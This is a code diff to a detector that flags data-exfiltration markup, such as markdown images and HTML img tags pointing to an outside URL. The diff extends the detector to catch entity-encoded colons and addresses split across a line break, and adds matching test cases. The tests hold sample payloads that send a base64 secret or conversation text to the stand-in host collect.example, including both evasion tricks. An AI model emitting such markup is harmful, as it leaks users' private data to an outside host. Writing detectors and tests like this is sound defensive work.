@@ -3,8 +3,21 @@ import type { Reading } from '../../../text/view/reading.ts';
 import type { Hit, Places, SpanDetector } from '../../detector.ts';
 import { cargoOf } from './carries.ts';
 
-const LITERALS = ['://', '(//', '"//', "'//", '=//', ': //', '<//', 'javascript:', 'vbscript:'] as const;
-const SCHEMELESS = 1;
+const LITERALS = [
+  '://',
+  '&#58;//',
+  '&#x3a;//',
+  '&colon;//',
+  '(//',
+  '"//',
+  "'//",
+  '=//',
+  ': //',
+  '<//',
+  'javascript:',
+  'vbscript:',
+] as const;
+const SCHEMELESS = LITERALS.indexOf('(//');
 const SCRIPT = LITERALS.indexOf('javascript:');
 
 /** A scheme before `://`, and a longer address than anybody types. */
@@ -51,6 +64,11 @@ export const exfiltration: SpanDetector = {
       ['![x](//collect.example/p?notes=my+account+number+is+the+old+one)', 'exfiltration/image'],
       ['![x](https://collect.example/p?data={conversation})', 'exfiltration/image'],
       ['[open](javascript:fetch(1))', 'exfiltration/script'],
+      [`<img src="https&#58;//collect.example/?q=${secret('base64')}">`, 'exfiltration/html'],
+      [
+        `![x](https://collect.example/?q=${secret('base64').slice(0, 14)}\n  ${secret('base64').slice(14)})`,
+        'exfiltration/image',
+      ],
     ],
     quiet: () => [
       '![logo](./img/logo.png) and <img src="/static/a.png" alt="a">',
@@ -79,7 +97,7 @@ function addressesIn({ text }: Reading, places: Places): readonly Hit[] {
         hits.push({ type: 'exfiltration/script', start, end, score: 0.7 });
       continue;
     }
-    const cargo = end - start < SHORTEST ? null : cargoOf(text.slice(start, end), loads);
+    const cargo = end - start < SHORTEST ? null : cargoOf(plain(text.slice(start, end)), loads);
     if (cargo !== null) hits.push({ type: `exfiltration/${kind}`, start, end, score: cargo.score, detail: cargo.how });
   }
   return hits;
@@ -88,16 +106,37 @@ function addressesIn({ text }: Reading, places: Places): readonly Hit[] {
 /** A shorter address carries nothing. */
 const SHORTEST = 20;
 
+/** Without the line break in its midst, and with its colon as itself. */
+function plain(address: string): string {
+  return address.replace(/\n[ \t]{0,8}/, '').replace(/^([a-z+]{0,12})&(?:#58|#x3a|colon);/i, '$1:');
+}
+
 function addressAt(text: string, which: number, at: number): { readonly start: number; readonly end: number } {
   let start = at;
-  if (which === 0)
+  if (which < SCHEMELESS)
     while (start > 0 && at - start < LONGEST_SCHEME && /[a-z+]/i.test(text.charAt(start - 1))) start -= 1;
   else if (which < SCRIPT) start = at + (LITERALS[which] ?? '').indexOf('//');
-  let end = at + SCHEMELESS;
   const most = Math.min(text.length, start + LONGEST_URL);
-  while (end < most && !ENDS.has(text.charCodeAt(end))) end += 1;
   // What stands right behind the literal may be its own quote or bracket.
-  return { start, end };
+  const end = endOf(text, at + 1, most);
+  return {
+    start,
+    end: text.charAt(start - 1) === '(' && text.charAt(end) === '\n' ? afterBreak(text, end, most) : end,
+  };
+}
+
+function endOf(text: string, from: number, most: number): number {
+  let end = from;
+  while (end < most && !ENDS.has(text.charCodeAt(end))) end += 1;
+  return end;
+}
+
+/** In brackets, an address may go on behind a line break; one that the brackets close. */
+function afterBreak(text: string, at: number, most: number): number {
+  let next = at + 1;
+  while (next < most && next - at <= 8 && (text[next] === ' ' || text[next] === '\t')) next += 1;
+  const end = endOf(text, next, most);
+  return end === text.length || text[end] === ')' ? end : at;
 }
 
 const ENDS = new Set([9, 10, 13, 32, ...Array.from('"\'<>)`', (mark) => mark.charCodeAt(0))]);
